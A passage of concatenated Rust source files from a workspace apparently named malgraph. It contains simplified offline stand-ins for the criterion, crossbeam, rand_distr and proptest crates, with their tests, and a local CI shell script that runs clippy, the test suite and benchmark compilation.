            assert!((0.0..1.0).contains(&x));
        }
    }

    #[test]
    #[should_panic(expected = "empty range")]
    fn empty_range_panics() {
        let mut rng = StdRng::seed_from_u64(8);
        rng.gen_range(5usize..5);
    }
}
