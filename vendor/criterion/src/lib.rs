//! Offline stand-in for the `criterion` crate.
//!
//! Implements the bench-source API this workspace uses — `Criterion`,
//! `benchmark_group` / `sample_size` / `bench_function` /
//! `bench_with_input`, `BenchmarkId`, `criterion_group!`,
//! `criterion_main!`, `black_box` — over plain `std::time::Instant`
//! wall-clock timing. No warm-up modeling, outlier analysis or HTML
//! reports: each benchmark runs `sample_size` timed iterations after one
//! warm-up call and prints `min / mean / max` per benchmark id. Good
//! enough to compare engine variants on one machine, which is all the
//! repo's perf work needs.

#![forbid(unsafe_code)]

use std::fmt;
use std::time::{Duration, Instant};

/// Prevents the optimizer from deleting a computed value.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Identifier of one benchmark within a group.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    /// `name/parameter` id.
    pub fn new(name: impl fmt::Display, parameter: impl fmt::Display) -> BenchmarkId {
        BenchmarkId {
            label: format!("{name}/{parameter}"),
        }
    }

    /// Id from a parameter alone.
    pub fn from_parameter(parameter: impl fmt::Display) -> BenchmarkId {
        BenchmarkId {
            label: parameter.to_string(),
        }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.label)
    }
}

/// Timing driver passed to the closure of `bench_function`.
pub struct Bencher {
    samples: usize,
    /// Measured per-iteration times of the last `iter` call.
    last_run: Vec<Duration>,
}

impl Bencher {
    /// Times `routine`: one untimed warm-up call, then `sample_size`
    /// timed calls.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        black_box(routine());
        self.last_run.clear();
        for _ in 0..self.samples {
            let start = Instant::now();
            black_box(routine());
            self.last_run.push(start.elapsed());
        }
    }
}

fn report(label: &str, times: &[Duration]) {
    if times.is_empty() {
        println!("{label:<48} (no samples)");
        return;
    }
    let min = times.iter().min().expect("non-empty");
    let max = times.iter().max().expect("non-empty");
    let mean = times.iter().sum::<Duration>() / times.len() as u32;
    println!(
        "{label:<48} min {} / mean {} / max {}  ({} samples)",
        fmt_duration(*min),
        fmt_duration(mean),
        fmt_duration(*max),
        times.len()
    );
}

fn fmt_duration(d: Duration) -> String {
    let nanos = d.as_nanos();
    if nanos < 1_000 {
        format!("{nanos} ns")
    } else if nanos < 1_000_000 {
        format!("{:.2} µs", nanos as f64 / 1e3)
    } else if nanos < 1_000_000_000 {
        format!("{:.2} ms", nanos as f64 / 1e6)
    } else {
        format!("{:.3} s", nanos as f64 / 1e9)
    }
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    sample_size: usize,
    _criterion: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets the timed-iteration count for subsequent benchmarks.
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = n.max(1);
        self
    }

    /// Runs one benchmark.
    pub fn bench_function<F>(&mut self, id: impl fmt::Display, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher {
            samples: self.sample_size,
            last_run: Vec::new(),
        };
        f(&mut bencher);
        report(&format!("{}/{}", self.name, id), &bencher.last_run);
        self
    }

    /// Runs one benchmark that borrows an input value.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut bencher = Bencher {
            samples: self.sample_size,
            last_run: Vec::new(),
        };
        f(&mut bencher, input);
        report(&format!("{}/{}", self.name, id), &bencher.last_run);
        self
    }

    /// Ends the group (prints a separator).
    pub fn finish(&mut self) {
        println!();
    }
}

/// The benchmark harness handle.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    /// Opens a benchmark group.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.into(),
            sample_size: 10,
            _criterion: self,
        }
    }

    /// Runs one stand-alone benchmark (a group of one, 10 samples).
    pub fn bench_function<F>(&mut self, name: impl fmt::Display, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher {
            samples: 10,
            last_run: Vec::new(),
        };
        f(&mut bencher);
        report(&name.to_string(), &bencher.last_run);
        self
    }
}

/// Declares a group-runner function over benchmark functions.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares `main` running the listed groups.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}
