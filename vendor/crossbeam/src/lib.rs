//! Offline stand-in for the `crossbeam` crate: only the scoped-thread API
//! this workspace uses, implemented on `std::thread::scope` (stable since
//! Rust 1.63). Semantics match crossbeam's: `scope` returns `Err` when a
//! spawned thread panicked without being joined, and `join` returns the
//! panic payload of its thread.

#![forbid(unsafe_code)]

pub mod thread {
    //! Scoped threads.

    use std::panic::{catch_unwind, AssertUnwindSafe};

    /// Result of a join or of a whole scope.
    pub type Result<T> = std::result::Result<T, Box<dyn std::any::Any + Send + 'static>>;

    /// Handle to a scope in which threads can be spawned.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a scoped thread. The closure receives the scope handle,
        /// so workers can spawn further workers (crossbeam's signature).
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let nested = Scope { inner: self.inner };
            ScopedJoinHandle {
                inner: self.inner.spawn(move || f(&nested)),
            }
        }
    }

    /// Handle to one scoped thread.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<T> ScopedJoinHandle<'_, T> {
        /// Waits for the thread; `Err` carries the panic payload.
        pub fn join(self) -> Result<T> {
            self.inner.join()
        }
    }

    /// Runs `f` with a scope handle and joins all its threads on exit.
    ///
    /// # Errors
    ///
    /// Returns `Err` if an unjoined spawned thread panicked (joined
    /// panics are reported through [`ScopedJoinHandle::join`] instead).
    pub fn scope<'env, F, R>(f: F) -> Result<R>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        catch_unwind(AssertUnwindSafe(|| {
            std::thread::scope(|s| f(&Scope { inner: s }))
        }))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn scope_joins_and_returns() {
        let data = [1, 2, 3, 4];
        let total = crate::thread::scope(|s| {
            let handles: Vec<_> = data
                .chunks(2)
                .map(|chunk| s.spawn(move |_| chunk.iter().sum::<i32>()))
                .collect();
            handles.into_iter().map(|h| h.join().unwrap()).sum::<i32>()
        })
        .unwrap();
        assert_eq!(total, 10);
    }

    #[test]
    fn joined_panic_is_reported_per_handle() {
        let result = crate::thread::scope(|s| {
            let h = s.spawn(|_| panic!("worker down"));
            h.join().is_err()
        });
        assert!(result.unwrap());
    }
}
