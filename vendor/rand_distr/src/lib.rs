//! Offline stand-in for the `rand_distr` crate: the distributions the
//! registry simulator samples (LogNormal via Box–Muller, Poisson via
//! inversion / normal approximation).

#![forbid(unsafe_code)]

pub use rand::distributions::Distribution;
use rand::{Rng, RngCore};
use std::fmt;

/// Invalid distribution parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Error {
    what: &'static str,
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "invalid distribution parameter: {}", self.what)
    }
}

impl std::error::Error for Error {}

/// Standard normal via Box–Muller (one value per draw; the pair's second
/// half is discarded to keep the sampler stateless).
fn standard_normal<R: RngCore>(rng: &mut R) -> f64 {
    loop {
        let u1: f64 = rng.gen::<f64>();
        if u1 <= f64::MIN_POSITIVE {
            continue; // ln(0) guard
        }
        let u2: f64 = rng.gen::<f64>();
        return (-2.0 * u1.ln()).sqrt() * (std::f64::consts::TAU * u2).cos();
    }
}

/// Normal distribution `N(mean, std_dev²)`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Normal {
    mean: f64,
    std_dev: f64,
}

impl Normal {
    /// Creates the distribution.
    ///
    /// # Errors
    ///
    /// Fails if `std_dev` is negative or either parameter is non-finite.
    pub fn new(mean: f64, std_dev: f64) -> Result<Normal, Error> {
        if !mean.is_finite() || !std_dev.is_finite() || std_dev < 0.0 {
            return Err(Error { what: "normal mean/std_dev" });
        }
        Ok(Normal { mean, std_dev })
    }
}

impl Distribution<f64> for Normal {
    fn sample<R: RngCore>(&self, rng: &mut R) -> f64 {
        self.mean + self.std_dev * standard_normal(rng)
    }
}

/// Log-normal distribution: `exp(N(mu, sigma²))`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LogNormal {
    norm: Normal,
}

impl LogNormal {
    /// Creates the distribution from the underlying normal's parameters.
    ///
    /// # Errors
    ///
    /// Fails if `sigma` is negative or either parameter is non-finite.
    pub fn new(mu: f64, sigma: f64) -> Result<LogNormal, Error> {
        Ok(LogNormal {
            norm: Normal::new(mu, sigma).map_err(|_| Error { what: "log-normal mu/sigma" })?,
        })
    }
}

impl Distribution<f64> for LogNormal {
    fn sample<R: RngCore>(&self, rng: &mut R) -> f64 {
        self.norm.sample(rng).exp()
    }
}

/// Poisson distribution with rate `lambda`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct Poisson {
    lambda: f64,
}

impl Poisson {
    /// Creates the distribution.
    ///
    /// # Errors
    ///
    /// Fails unless `lambda` is positive and finite.
    pub fn new(lambda: f64) -> Result<Poisson, Error> {
        if !lambda.is_finite() || lambda <= 0.0 {
            return Err(Error { what: "poisson lambda" });
        }
        Ok(Poisson { lambda })
    }
}

impl Distribution<f64> for Poisson {
    fn sample<R: RngCore>(&self, rng: &mut R) -> f64 {
        if self.lambda < 30.0 {
            // Knuth inversion: multiply uniforms until below e^-lambda.
            let limit = (-self.lambda).exp();
            let mut product: f64 = rng.gen::<f64>();
            let mut count = 0u64;
            while product > limit {
                product *= rng.gen::<f64>();
                count += 1;
            }
            count as f64
        } else {
            // Normal approximation with continuity correction — fine for
            // the simulator's large-rate download counts.
            let sampled = self.lambda + self.lambda.sqrt() * standard_normal(rng) + 0.5;
            sampled.max(0.0).floor()
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn rejects_bad_parameters() {
        assert!(Normal::new(f64::NAN, 1.0).is_err());
        assert!(Normal::new(0.0, -1.0).is_err());
        assert!(LogNormal::new(0.0, -0.1).is_err());
        assert!(Poisson::new(0.0).is_err());
        assert!(Poisson::new(f64::INFINITY).is_err());
    }

    #[test]
    fn normal_moments_are_close() {
        let mut rng = StdRng::seed_from_u64(1);
        let d = Normal::new(5.0, 2.0).unwrap();
        let n = 20_000;
        let samples: Vec<f64> = (0..n).map(|_| d.sample(&mut rng)).collect();
        let mean = samples.iter().sum::<f64>() / n as f64;
        let var = samples.iter().map(|x| (x - mean) * (x - mean)).sum::<f64>() / n as f64;
        assert!((mean - 5.0).abs() < 0.1, "mean {mean}");
        assert!((var - 4.0).abs() < 0.3, "var {var}");
    }

    #[test]
    fn log_normal_is_positive_with_heavy_tail() {
        let mut rng = StdRng::seed_from_u64(2);
        let d = LogNormal::new(1.0, 1.0).unwrap();
        let samples: Vec<f64> = (0..5_000).map(|_| d.sample(&mut rng)).collect();
        assert!(samples.iter().all(|&x| x > 0.0));
        let median_ballpark = samples.iter().filter(|&&x| x < 1.0f64.exp()).count();
        assert!((2000..3000).contains(&median_ballpark), "{median_ballpark}");
    }

    #[test]
    fn poisson_mean_tracks_lambda() {
        let mut rng = StdRng::seed_from_u64(3);
        for &lambda in &[0.5f64, 4.0, 80.0] {
            let d = Poisson::new(lambda).unwrap();
            let n = 10_000;
            let mean = (0..n).map(|_| d.sample(&mut rng)).sum::<f64>() / n as f64;
            assert!(
                (mean - lambda).abs() < lambda.sqrt().max(0.2) * 0.2,
                "lambda {lambda}: mean {mean}"
            );
        }
    }
}
