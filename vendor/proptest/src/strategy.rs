//! The [`Strategy`] trait and the combinators the workspace uses.

use crate::pattern;
use rand::rngs::StdRng;
use rand::Rng;
use std::marker::PhantomData;

/// A recipe for generating values of one type.
pub trait Strategy {
    /// Generated type.
    type Value;

    /// Draws one value.
    fn sample(&self, rng: &mut StdRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<U, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> U,
    {
        Map { inner: self, f }
    }

    /// Type-erases the strategy (for [`crate::prop_oneof!`]).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        BoxedStrategy {
            inner: Box::new(self),
        }
    }
}

/// Always yields a clone of its value.
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn sample(&self, _rng: &mut StdRng) -> T {
        self.0.clone()
    }
}

/// Output of [`Strategy::prop_map`].
#[derive(Debug, Clone)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, U, F: Fn(S::Value) -> U> Strategy for Map<S, F> {
    type Value = U;
    fn sample(&self, rng: &mut StdRng) -> U {
        (self.f)(self.inner.sample(rng))
    }
}

/// Type-erased strategy.
pub struct BoxedStrategy<T> {
    inner: Box<dyn Strategy<Value = T>>,
}

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;
    fn sample(&self, rng: &mut StdRng) -> T {
        self.inner.sample(rng)
    }
}

/// Uniform choice between boxed strategies ([`crate::prop_oneof!`]).
pub struct Union<T> {
    options: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// Builds the union.
    ///
    /// # Panics
    ///
    /// Panics if `options` is empty.
    pub fn new(options: Vec<BoxedStrategy<T>>) -> Union<T> {
        assert!(!options.is_empty(), "prop_oneof! needs at least one option");
        Union { options }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn sample(&self, rng: &mut StdRng) -> T {
        let pick = rng.gen_range(0..self.options.len());
        self.options[pick].sample(rng)
    }
}

macro_rules! impl_strategy_for_ranges {
    ($($t:ty),*) => {$(
        impl Strategy for core::ops::Range<$t> {
            type Value = $t;
            fn sample(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
        impl Strategy for core::ops::RangeInclusive<$t> {
            type Value = $t;
            fn sample(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}
impl_strategy_for_ranges!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize, f32, f64);

/// String strategies from a regex subset (see [`crate::pattern`] docs).
impl Strategy for &str {
    type Value = String;
    fn sample(&self, rng: &mut StdRng) -> String {
        pattern::sample_pattern(self, rng)
    }
}

impl Strategy for String {
    type Value = String;
    fn sample(&self, rng: &mut StdRng) -> String {
        pattern::sample_pattern(self, rng)
    }
}

macro_rules! impl_strategy_for_tuples {
    ($(($($name:ident . $idx:tt),+))*) => {$(
        impl<$($name: Strategy),+> Strategy for ($($name,)+) {
            type Value = ($($name::Value,)+);
            fn sample(&self, rng: &mut StdRng) -> Self::Value {
                ($(self.$idx.sample(rng),)+)
            }
        }
    )*};
}
impl_strategy_for_tuples! {
    (A.0)
    (A.0, B.1)
    (A.0, B.1, C.2)
    (A.0, B.1, C.2, D.3)
    (A.0, B.1, C.2, D.3, E.4)
}

/// Full-range values for `any::<T>()`.
pub trait Arbitrary {
    /// Draws one value over the type's whole domain.
    fn arbitrary(rng: &mut StdRng) -> Self;
}

macro_rules! impl_arbitrary_uint {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut StdRng) -> Self {
                rng.gen_range(<$t>::MIN..=<$t>::MAX)
            }
        }
    )*};
}
impl_arbitrary_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut StdRng) -> Self {
        rng.gen_bool(0.5)
    }
}

/// Strategy over a type's whole domain.
pub struct Any<T> {
    _marker: PhantomData<T>,
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn sample(&self, rng: &mut StdRng) -> T {
        T::arbitrary(rng)
    }
}

/// `any::<T>()` — every value of `T` equally likely.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any {
        _marker: PhantomData,
    }
}
