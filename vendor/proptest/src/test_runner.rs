//! Case generation and failure reporting.

use rand::rngs::StdRng;
use rand::SeedableRng;
use std::fmt;

/// Per-test configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of random cases to run.
    pub cases: u32,
}

impl ProptestConfig {
    /// Config running `cases` cases.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 32 }
    }
}

/// A failed property case.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TestCaseError {
    message: String,
}

impl TestCaseError {
    /// Builds a failure with a message.
    pub fn fail(message: impl Into<String>) -> TestCaseError {
        TestCaseError {
            message: message.into(),
        }
    }
}

impl fmt::Display for TestCaseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message)
    }
}

/// Result type of one property case.
pub type TestCaseResult = Result<(), TestCaseError>;

/// Deterministic per-test seed: FNV-1a over the test's full path.
pub fn seed_for(test_path: &str) -> u64 {
    let mut hash: u64 = 0xcbf29ce484222325;
    for b in test_path.bytes() {
        hash ^= u64::from(b);
        hash = hash.wrapping_mul(0x100000001b3);
    }
    hash
}

/// RNG for one case of one test.
pub fn case_rng(seed: u64, case: u32) -> StdRng {
    StdRng::seed_from_u64(seed ^ (u64::from(case).wrapping_mul(0x9e3779b97f4a7c15)))
}
