//! Offline stand-in for the `proptest` crate.
//!
//! Implements the subset this workspace's property tests use: the
//! [`proptest!`] macro, `prop_assert*` / [`prop_assume!`], range and tuple
//! strategies, [`collection::vec`], regex-subset string strategies,
//! [`strategy::Just`], `prop_map`, [`prop_oneof!`] and `any::<T>()`.
//!
//! Differences from upstream, by design:
//!
//! * **no shrinking** — a failing case reports its inputs via the panic
//!   message instead of minimizing them;
//! * cases are generated from a per-test deterministic seed (FNV-1a of
//!   the test's module path and name), so failures reproduce exactly;
//! * the default case count is 32 (upstream: 256) — the workspace runs on
//!   small CI machines and its properties are cheap to falsify.

#![forbid(unsafe_code)]

pub mod collection;
mod pattern;
pub mod strategy;
pub mod test_runner;

/// Everything the tests import with `use proptest::prelude::*`.
pub mod prelude {
    pub use crate::strategy::{any, Just, Strategy};
    pub use crate::test_runner::{ProptestConfig, TestCaseError};
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest};
}

/// Defines property tests: `proptest! { #[test] fn f(x in strat) { .. } }`.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_fns! { ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_fns! { ($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_fns {
    ( ($cfg:expr)
      $( $(#[$meta:meta])* fn $name:ident ( $( $arg:pat in $strat:expr ),* $(,)? ) $body:block )*
    ) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __config = $cfg;
                let __seed = $crate::test_runner::seed_for(concat!(
                    module_path!(), "::", stringify!($name)
                ));
                for __case in 0..__config.cases {
                    let mut __rng = $crate::test_runner::case_rng(__seed, __case);
                    $( let $arg = $crate::strategy::Strategy::sample(&($strat), &mut __rng); )*
                    let __result: ::core::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| {
                            $body
                            ::core::result::Result::Ok(())
                        })();
                    if let ::core::result::Result::Err(__e) = __result {
                        panic!(
                            "proptest {} failed at case {} (seed {:#x}): {}",
                            stringify!($name),
                            __case,
                            __seed,
                            __e
                        );
                    }
                }
            }
        )*
    };
}

/// Fails the current case unless the condition holds.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        if !($cond) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!("assertion failed: {}", stringify!($cond)),
            ));
        }
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !($cond) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!($($fmt)*),
            ));
        }
    };
}

/// Fails the current case unless both sides are equal.
#[macro_export]
macro_rules! prop_assert_eq {
    ($a:expr, $b:expr $(,)?) => {{
        let (__left, __right) = (&$a, &$b);
        if !(*__left == *__right) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!(
                    "assertion failed: `(left == right)`\n  left: {:?}\n right: {:?}",
                    __left, __right
                ),
            ));
        }
    }};
    ($a:expr, $b:expr, $($fmt:tt)*) => {{
        let (__left, __right) = (&$a, &$b);
        if !(*__left == *__right) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!(
                    "assertion failed: `(left == right)`: {}\n  left: {:?}\n right: {:?}",
                    format!($($fmt)*),
                    __left,
                    __right
                ),
            ));
        }
    }};
}

/// Fails the current case if both sides are equal.
#[macro_export]
macro_rules! prop_assert_ne {
    ($a:expr, $b:expr $(,)?) => {{
        let (__left, __right) = (&$a, &$b);
        if *__left == *__right {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!(
                    "assertion failed: `(left != right)`\n  left: {:?}\n right: {:?}",
                    __left, __right
                ),
            ));
        }
    }};
    ($a:expr, $b:expr, $($fmt:tt)*) => {{
        let (__left, __right) = (&$a, &$b);
        if *__left == *__right {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!(
                    "assertion failed: `(left != right)`: {}\n  left: {:?}\n right: {:?}",
                    format!($($fmt)*),
                    __left,
                    __right
                ),
            ));
        }
    }};
}

/// Discards the current case (counted as a pass) unless the condition holds.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr $(,)?) => {
        if !($cond) {
            return ::core::result::Result::Ok(());
        }
    };
}

/// Uniform choice between strategies of the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($s:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($s)),+
        ])
    };
}
