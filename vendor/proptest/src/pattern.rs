//! Regex-subset string generation.
//!
//! Supports what the workspace's tests write: literal characters, `.`,
//! character classes `[a-z0-9@/.-]` (ranges and literals; `-` literal
//! when first or last), and the quantifiers `*`, `+`, `?`, `{m}`,
//! `{m,n}`. `*`/`+` are capped at 16 repetitions; `.` draws from a pool
//! of printable ASCII, whitespace, markup punctuation and a few
//! multi-byte characters so fuzz targets see non-trivial input.

use rand::rngs::StdRng;
use rand::Rng;

/// Characters `.` can produce.
const ANY_POOL: &[char] = &[
    'a', 'b', 'c', 'x', 'y', 'z', 'A', 'Z', '0', '1', '9', ' ', '\t', '\n', '<', '>', '/', '=',
    '"', '\'', '&', ';', ':', '.', ',', '-', '_', '(', ')', '[', ']', '{', '}', '@', '#', '!',
    '?', '*', '+', '\\', 'é', 'ß', '漢', '🦀',
];

#[derive(Debug, Clone)]
enum Atom {
    Literal(char),
    Any,
    Class(Vec<(char, char)>),
}

#[derive(Debug, Clone)]
struct Piece {
    atom: Atom,
    min: usize,
    max: usize, // inclusive
}

fn parse(pattern: &str) -> Vec<Piece> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut pieces = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let atom = match chars[i] {
            '.' => {
                i += 1;
                Atom::Any
            }
            '[' => {
                let mut ranges = Vec::new();
                i += 1;
                let mut first = true;
                while i < chars.len() && chars[i] != ']' {
                    let c = chars[i];
                    if c == '-' && !first && i + 1 < chars.len() && chars[i + 1] != ']' {
                        // `-` between two chars extends the previous range;
                        // handled below when we see `a-z` as a triple.
                    }
                    if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i + 2] != ']' {
                        ranges.push((c, chars[i + 2]));
                        i += 3;
                    } else {
                        ranges.push((c, c));
                        i += 1;
                    }
                    first = false;
                }
                i += 1; // closing ]
                if ranges.is_empty() {
                    ranges.push(('a', 'a'));
                }
                Atom::Class(ranges)
            }
            '\\' if i + 1 < chars.len() => {
                i += 2;
                Atom::Literal(chars[i - 1])
            }
            c => {
                i += 1;
                Atom::Literal(c)
            }
        };
        // Quantifier?
        let (min, max) = if i < chars.len() {
            match chars[i] {
                '*' => {
                    i += 1;
                    (0, 16)
                }
                '+' => {
                    i += 1;
                    (1, 16)
                }
                '?' => {
                    i += 1;
                    (0, 1)
                }
                '{' => {
                    let close = chars[i..]
                        .iter()
                        .position(|&c| c == '}')
                        .map(|p| i + p)
                        .unwrap_or(i);
                    let body: String = chars[i + 1..close].iter().collect();
                    i = close + 1;
                    if let Some((lo, hi)) = body.split_once(',') {
                        (
                            lo.trim().parse().unwrap_or(0),
                            hi.trim().parse().unwrap_or(8),
                        )
                    } else {
                        let n = body.trim().parse().unwrap_or(1);
                        (n, n)
                    }
                }
                _ => (1, 1),
            }
        } else {
            (1, 1)
        };
        pieces.push(Piece { atom, min, max });
    }
    pieces
}

fn sample_atom(atom: &Atom, rng: &mut StdRng) -> char {
    match atom {
        Atom::Literal(c) => *c,
        Atom::Any => ANY_POOL[rng.gen_range(0..ANY_POOL.len())],
        Atom::Class(ranges) => {
            let (lo, hi) = ranges[rng.gen_range(0..ranges.len())];
            let (lo, hi) = (lo as u32, hi as u32);
            let pick = if lo >= hi { lo } else { rng.gen_range(lo..=hi) };
            char::from_u32(pick).unwrap_or('a')
        }
    }
}

/// Generates one string matching `pattern`.
pub fn sample_pattern(pattern: &str, rng: &mut StdRng) -> String {
    let mut out = String::new();
    for piece in parse(pattern) {
        let count = if piece.min >= piece.max {
            piece.min
        } else {
            rng.gen_range(piece.min..=piece.max)
        };
        for _ in 0..count {
            out.push(sample_atom(&piece.atom, rng));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn class_with_quantifier_respects_bounds() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..200 {
            let s = sample_pattern("[a-z][a-z0-9-]{0,20}", &mut rng);
            assert!(!s.is_empty() && s.len() <= 21, "{s:?}");
            let first = s.chars().next().unwrap();
            assert!(first.is_ascii_lowercase(), "{s:?}");
            assert!(
                s.chars()
                    .skip(1)
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
                "{s:?}"
            );
        }
    }

    #[test]
    fn dot_star_produces_varied_strings() {
        let mut rng = StdRng::seed_from_u64(2);
        let samples: Vec<String> = (0..50).map(|_| sample_pattern(".*", &mut rng)).collect();
        assert!(samples.iter().any(String::is_empty));
        assert!(samples.iter().any(|s| !s.is_empty()));
    }

    #[test]
    fn literal_patterns_pass_through() {
        let mut rng = StdRng::seed_from_u64(3);
        assert_eq!(sample_pattern("abc", &mut rng), "abc");
    }
}
