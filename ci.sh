#!/usr/bin/env bash
# Local CI gate: lint-clean and test-green across the whole workspace.
#
#   ./ci.sh            # clippy (deny warnings) + full test suite
#   ./ci.sh --release  # additionally checks the release build
#
# Keep this the single source of truth for "is the tree healthy" — the
# same two commands the PR driver runs.
set -euo pipefail
cd "$(dirname "$0")"

echo "== cargo clippy --workspace --all-targets -- -D warnings"
cargo clippy --workspace --all-targets -- -D warnings

if [[ "${1:-}" == "--release" ]]; then
    echo "== cargo build --release"
    cargo build --release
fi

echo "== cargo test -q"
cargo test -q

# The fault-tolerance gate, run explicitly so a filtered or skipped
# harness can never silently drop it: the resilient collector must
# survive every fault rate (including total blackout) without panicking.
echo "== cargo test -q --test failure_injection"
cargo test -q --test failure_injection

# The observability gates, run explicitly for the same reason:
#  * obs unit tests — histogram bucket boundaries, deterministic shard
#    merge, span accounting, self-time/folded attribution, allocation
#    charging, perf-baseline threshold edges;
#  * obs_instrumentation — instrumented runs (profiling + alloc
#    accounting on) stay bitwise identical to uninstrumented runs at 1
#    and 7 threads;
#  * obs_export — byte-exact goldens for the JSON / Prometheus /
#    Chrome-trace / folded-stack exporters (the malgraph-obs/2
#    schema-stability check).
echo "== cargo test -q -p obs"
cargo test -q -p obs
echo "== cargo test -q --test obs_instrumentation"
cargo test -q --test obs_instrumentation
echo "== cargo test -q --test obs_export"
cargo test -q --test obs_export

# The vector-kernel gates (PR 6), run explicitly for the same reason:
#  * embed / cluster property suites — sparse embeddings and every
#    kernel × thread-count combination bitwise-equal to the dense
#    reference, i8 windows certified lossless;
#  * kernel_equivalence — the full similarity pipeline produces
#    identical output under every Kernel at 1 and 7 threads;
#  * benches must at least compile (they are not run in CI);
#  * kernel_bench --quick — the three kernels agree on a real workload
#    (the binary asserts identical assignments and pair sets before it
#    reports a number).
echo "== cargo test -q -p embed --test properties"
cargo test -q -p embed --test properties
echo "== cargo test -q -p cluster --test properties"
cargo test -q -p cluster --test properties
echo "== cargo test -q --test kernel_equivalence"
cargo test -q --test kernel_equivalence
echo "== cargo bench --no-run -p malgraph-bench"
cargo bench --no-run -p malgraph-bench
